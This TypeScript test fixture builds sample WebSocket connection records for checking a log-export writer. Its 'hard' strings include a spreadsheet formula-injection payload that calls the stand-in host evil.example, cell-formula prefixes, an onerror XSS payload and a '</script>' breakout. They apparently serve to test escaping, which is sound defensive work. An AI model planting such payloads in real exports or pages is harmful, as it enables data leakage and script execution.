import type { ExportFormat, WriteOptions } from '#model/export/formats/format.ts';
import { writeExport } from '#model/export/write-export.ts';
import type { Language } from '#model/localized.ts';
import type { EndedConnection } from '#model/record/connection.ts';
import { closed, SAMPLE_START, sampleConnection, sampleConnections } from './sample-log.ts';

/** The sample log and what is hard to write: formulas, quotes, line ends, marks, empty texts, what is no URL. */
export function hardConnections(): EndedConnection[] {
  const at = SAMPLE_START + 500_000;
  const reasons = [
    '=HYPERLINK("https://evil.example?"&A1)',
    '+1',
    '-2+3',
    '@SUM(A1)',
    '\ttab',
    '\rreturn',
    '\nline',
    '＝1',
    "'quoted'",
    'a "b", c;\r\nd',
    ' spaces ',
    '| **bold** <img src=x onerror=alert(1)> [a](https://evil.example) `code` ~~no~~ &amp; $x$ #1',
    '关闭：超时 🙂 \u2028\u2029',
    '</script>',
  ];
  const hard = reasons.map((reason, index) =>
    sampleConnection(index + 20, closed(at + index, 4000, reason, index % 2 === 0)),
  );
  return [
    ...sampleConnections(),
    ...hard,
    sampleConnection(
      40,
      { type: 'threw', at: at + 100, name: 'SyntaxError', message: '=1' },
      { url: 'not a url?token=s3cr3t', createdAt: at + 100, opened: null },
    ),
    sampleConnection(43, closed(at + 100, 1000), {
      goodbye: {
        protocol: 'sockjs',
        code: '3000',
        name: 'Go away!',
        reason: '=1 | "quoted"',
        from: 'server',
        at: at + 80,
        weight: 'fatal',
        reconnect: true,
      },
      closeCall: {
        at: at + 90,
        code: 999.5,
        reason: '',
        readyState: 1,
        threw: 'InvalidAccessError',
        stack: '',
        by: 'page',
        during: 'other',
        eventType: '=offline',
      },
    }),
    sampleConnection(
      41,
      { type: 'unseen', at: at + 101 },
      { protocols: null, stack: '', sender: { tabId: -1, url: '' } },
    ),
    sampleConnection(
      44,
      { type: 'unseen', at: at + 101 },
      {
        protocols: null,
        stack: '',
        handshake: {
          source: 'devtools',
          status: 101,
          headers: [{ name: 'server', value: '=cmd' }],
          address: null,
          error: null,
          ambiguous: false,
        },
      },
    ),
    sampleConnection(42, closed(at + 102, 1006), {
      browser: 'firefox',
      createdAt: at + 90.5,
      opened: null,
      page: {
        longestGap: { duration: 41_000.25, until: at + 60 },
        cachedAt: at + 91,
        frozenAt: at + 92,
        resumedAt: at + 93,
      },
      violation: { directive: 'connect-src', policy: "default-src 'self'" },
      handshake: {
        source: 'webRequest',
        status: 302,
        headers: [
          { name: 'location', value: 'https://login.example/' },
          { name: 'via', value: '1.1 a' },
          { name: 'via', value: '1.1 b' },
        ],
        address: '[2001:db8::1]',
        error: '',
        ambiguous: true,
      },
    }),
  ];
}

/** Whether an ending needs no attention: unseen ones do not when the second channel has nothing against them. */
export function isClean({ end, handshake }: EndedConnection): boolean {
  if (end.type === 'closed') return end.wasClean;
  return end.type === 'left' || (end.type === 'unseen' && handshake?.status === 101 && handshake.error === null);
}

/** A log as a file in some format, written a few at a time. */
export function written(
  format: ExportFormat,
  connections: readonly EndedConnection[],
  overrides: Partial<WriteOptions> & { language?: Language } = {},
): string {
  const parts = writeExport(format, {
    redact: false,
    generator: 'WasClean 1.0.0',
    exportedAt: SAMPLE_START,
    language: 'en',
    ownCodes: [],
    count: connections.length,
    ...overrides,
  });
  let text = '';
  for (let from = 0; from < connections.length; from += 5) text += parts.add(connections.slice(from, from + 5));
  for (const part of parts.end()) text += part;
  return text;
}
